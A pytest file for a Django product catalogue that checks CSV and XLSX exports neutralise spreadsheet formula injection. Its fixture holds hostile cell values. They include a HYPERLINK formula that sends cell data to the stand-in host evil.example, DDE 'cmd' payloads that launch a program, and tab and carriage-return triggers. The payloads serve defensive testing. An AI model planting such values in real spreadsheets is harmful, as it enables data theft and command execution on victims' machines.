"""Exported spreadsheets never run a formula: a cell a spreadsheet would evaluate is
neutralised in CSV and in XLSX, numbers stay numbers, and an export imports back unchanged."""

import csv
import io

import openpyxl
import pytest
import tablib

from catalogue.models import Product
from tests import factories
from tests.import_files import export, preview

pytestmark = pytest.mark.django_db

# What an attacker (or a careless copy-paste) puts in a product's text fields.
HOSTILE = {
    "name_vi": '=HYPERLINK("http://evil.example/?d="&A2,"Xem chi tiết")',
    "name_en": "+1+cmd|' /C calc'!A0",
    "description_vi": "-2+3+cmd|' /C calc'!A0",
    "description_en": "@SUM(1+1)*cmd|' /C calc'!A0",
    "unit_vi": "\t=1+1",
    "unit_en": "\r=1+1",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_product():
    producer = factories.ProducerFactory(
        name="Sơn mài Sơn Hà",
        slug="son-mai-son-ha",
        village=factories.VillageFactory(name="Sơn Hà", district_slug="phu-xuyen"),
    )
    return factories.PublishedProductFactory(
        producer=producer,
        slug="hop-doc",
        price=550_000,
        stock_quantity=7,
        **{k: v for k, v in HOSTILE.items() if k != "name_vi"},
        name=HOSTILE["name_vi"],
    )


def test_csv_export_neutralises_every_cell_a_spreadsheet_would_evaluate(english_officer_client, hostile_product):
    rows = list(csv.DictReader(io.StringIO(export(english_officer_client, "csv").decode("utf-8-sig"), newline="")))
    (row,) = rows
    for column, text in HOSTILE.items():
        assert row[column] == "'" + text, column  # shown as text, nothing lost
    for column, cell in row.items():
        assert not cell.startswith(TRIGGERS), (column, cell)
    assert row["price"] == "550000" and row["stock_quantity"] == "7"  # numbers stay numbers


def test_csv_keeps_negative_numbers_as_numbers_but_not_sums():
    from catalogue.spreadsheets import SafeCSV

    dataset = tablib.Dataset(["-5", "-1.5", "-2+3", "-", "- 5"], headers=["a", "b", "c", "d", "e"])
    (row,) = list(csv.reader(io.StringIO(SafeCSV().export_data(dataset))))[1:]
    assert row == ["-5", "-1.5", "'-2+3", "'-", "'- 5"]


def test_xlsx_export_has_no_formula_and_keeps_text_and_numbers_exact(english_officer_client, hostile_product):
    book = openpyxl.load_workbook(io.BytesIO(export(english_officer_client, "xlsx")))
    sheet = book.active
    headers = [cell.value for cell in sheet[1]]
    cells = dict(zip(headers, sheet[2]))
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
    for column, text in HOSTILE.items():
        # (XML, inside every XLSX file, reads a carriage return back as a line feed.)
        assert cells[column].value.replace("\r", "\n") == text.replace("\r", "\n"), column
        assert cells[column].data_type == "s"
        assert cells[column].quotePrefix  # Excel keeps it text even when the cell is edited
    assert cells["price"].value == 550000 and cells["price"].data_type == "n"


@pytest.mark.parametrize("title", ["csv", "xlsx"])
def test_an_export_imports_back_unchanged(english_officer_client, hostile_product, title):
    if title == "xlsx":  # XML (inside XLSX) cannot keep a lone carriage return: not ours to test
        Product.objects.filter(pk=hostile_product.pk).update(unit_en="\t=2+2")
    content = export(english_officer_client, title)
    response = preview(english_officer_client, content, title)
    assert response.context.get("confirm_form") is not None, response.content.decode()[-3000:]
    (row,) = response.context["result"].rows
    assert row.import_type == "skip"  # nothing changed: the apostrophes are not taken as data
    assert Product.objects.get(slug="hop-doc").name_vi == HOSTILE["name_vi"]


@pytest.mark.parametrize("title", ["csv", "xlsx"])
def test_an_export_with_empty_texts_stored_as_empty_strings_imports_back_unchanged(
    english_officer_client, hostile_product, title
):
    """Translated texts are stored empty as "" (forms, the demo) or NULL (never set); an
    exported empty cell reads back as NULL, which must not count as a change."""
    Product.objects.filter(pk=hostile_product.pk).update(description_en="", unit_en="")
    content = export(english_officer_client, title)
    (row,) = preview(english_officer_client, content, title).context["result"].rows
    assert row.import_type == "skip"
